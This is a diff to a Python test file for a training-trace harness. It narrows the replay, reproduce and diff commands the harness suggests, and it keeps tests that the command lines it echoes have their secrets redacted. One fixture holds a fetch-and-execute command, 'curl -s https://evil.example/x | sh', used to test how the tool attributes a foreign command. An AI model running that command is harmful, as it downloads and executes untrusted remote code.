@@ -7,8 +7,7 @@ from pathlib import Path
 
 from harness.cli.main import cli
 from harness.lab.report.subjects import Pair, Subject
-from harness.render.report.next_commands import next_commands, next_lines
-from harness.render.report.page import fingerprints
+from harness.render.next_commands import next_commands, next_lines
 from harness.trace.diff import diff
 from harness.trace.manifest import Fingerprint, Manifest
 from tests.support.traces import flip_bit, manifest_of, steps_of, trace
@@ -31,37 +30,24 @@ def test_of_a_program_its_own_command_line_without_secrets(tmp_path: Path) -> No
     argv = ("python", "train.py", "--lr", "1e-3", "--api-key", "sk-0123456789abcdefghij")
     assert commands(pair_of(tmp_path, replace(manifest_of(), argv=argv))) == [
         "rlharness replay --step 1 --trace-ops -- python train.py --lr 1e-3 --api-key '<redacted>'",
-        "rlharness replay --level deterministic -- python train.py --lr 1e-3 --api-key '<redacted>'",
-        "rlharness diff runs/a 'runs/my b'",
     ]
-    at_level = commands(pair_of(tmp_path / "x", replace(manifest_of(), argv=argv, level="deterministic")))
-    assert not any("--level" in command for command in at_level)
 
 
 def test_of_a_program_is_said_whose_command_it_is(tmp_path: Path) -> None:
     """A trace of somebody else may name any."""
     argv = ("bash", "-c", "curl -s https://evil.example/x | sh")
-    found = next_commands(pair_of(tmp_path, replace(manifest_of(), argv=argv)))
-    assert [shlex.split(each.command)[-3:] == list(argv) for each in found] == [True, True, False]
-    assert "the command that the trace names" in found[0].why
-    assert "that command" in found[1].why
+    (found,) = next_commands(pair_of(tmp_path, replace(manifest_of(), argv=argv)))
+    assert shlex.split(found.command)[-3:] == list(argv)
+    assert "the command that the trace names" in found.why
 
 
-def test_a_scenario_is_repeated_and_perturbed_if_its_runtime_settings_differ(tmp_path: Path) -> None:
+def test_a_step_of_a_scenario_is_repeated_if_both_runs_have_its_call(tmp_path: Path) -> None:
     argv = ("rlharness", "train", "grpo", "--set", "seed=3")
-    of_a, of_b = (
-        replace(manifest_of(perturbation={"variable OMP_NUM_THREADS": n, "spread.threads": n}), argv=argv)
-        for n in ("1", "2")
-    )
-    pair = pair_of(tmp_path, of_a, of_b)
-    assert commands(pair)[0] == "rlharness chaos grpo --set seed=3", "without its call no step of it can run again"
+    pair = pair_of(tmp_path, replace(manifest_of(), argv=argv))
+    assert commands(pair) == []
     for run in ("a", "b"):
         (tmp_path / run / "call.json").write_text(CALL_TEXT, "utf-8")
-    assert commands(pair) == [
-        "rlharness reproduce runs/a --step 1 --trace-ops --against 'runs/my b'",
-        "rlharness chaos grpo --set seed=3",
-        "rlharness diff runs/a 'runs/my b'",
-    ]
+    assert commands(pair) == ["rlharness reproduce runs/a --step 1 --trace-ops --against 'runs/my b'"]
 
 
 def test_every_command_is_one(tmp_path: Path) -> None:
@@ -77,13 +63,12 @@ def test_every_command_is_one(tmp_path: Path) -> None:
 def test_equal_runs_want_no_command_and_others_may_only_be_compared(tmp_path: Path) -> None:
     known = replace(manifest_of(), argv=("python", "x.py"))
     assert commands(pair_of(tmp_path / "equal", known, is_equal=True)) == []
-    assert commands(pair_of(tmp_path / "nameless", manifest_of())) == ["rlharness diff runs/a 'runs/my b'"]
+    assert commands(pair_of(tmp_path / "nameless", manifest_of())) == []
     other_seed = replace(known, fingerprint=Fingerprint({"seed": "8"}))
     assert commands(pair_of(tmp_path / "other", known, other_seed)) == [
         "rlharness trace --trace-ops 1 --out runs/a-step-1 -- python x.py",
         "rlharness trace --trace-ops 1 --out 'runs/my b-step-1' -- python x.py",
         "rlharness diff runs/a-step-1 'runs/my b-step-1'",
-        "rlharness diff runs/a 'runs/my b'",
     ]
 
 
@@ -115,21 +100,4 @@ def test_runs_of_other_identities_are_asked_what_made_them_part(tmp_path: Path) 
         pair = pair_of(tmp_path / name, known, replace(known, fingerprint=fingerprint))
         for run in ("a", "b"):
             (tmp_path / name / run / "call.json").write_text(CALL_TEXT, "utf-8")
-        assert commands(pair) == [
-            "rlharness reproduce runs/a --step 1 --trace-ops --against 'runs/my b'"
-        ] * is_alike + ["rlharness diff runs/a 'runs/my b'"]
-
-
-def test_fingerprints_stand_side_by_side_without_secrets() -> None:
-    a = manifest_of(numerics={"python": "3.11", "libc": "2.36", "variable HF_TOKEN": "x"})
-    b = manifest_of(numerics={"python": "3.12", "libc": "2.36", "driver": "570"})
-    identity, numerics = fingerprints(a, b)
-    assert (identity["part"], identity["different"], len(identity["alike"])) == ("identity", [], 1)
-    assert numerics["different"] == [
-        ("driver", None, "570"),
-        ("python", "3.11", "3.12"),
-        ("variable HF_TOKEN", "<redacted>", None),
-    ]
-    assert numerics["alike"] == [("libc", "2.36", "2.36")]
-    assert fingerprints(None, None) == []
-    assert [part["part"] for part in fingerprints(None, b)] == ["identity", "numerics"]
+        assert commands(pair) == ["rlharness reproduce runs/a --step 1 --trace-ops --against 'runs/my b'"] * is_alike
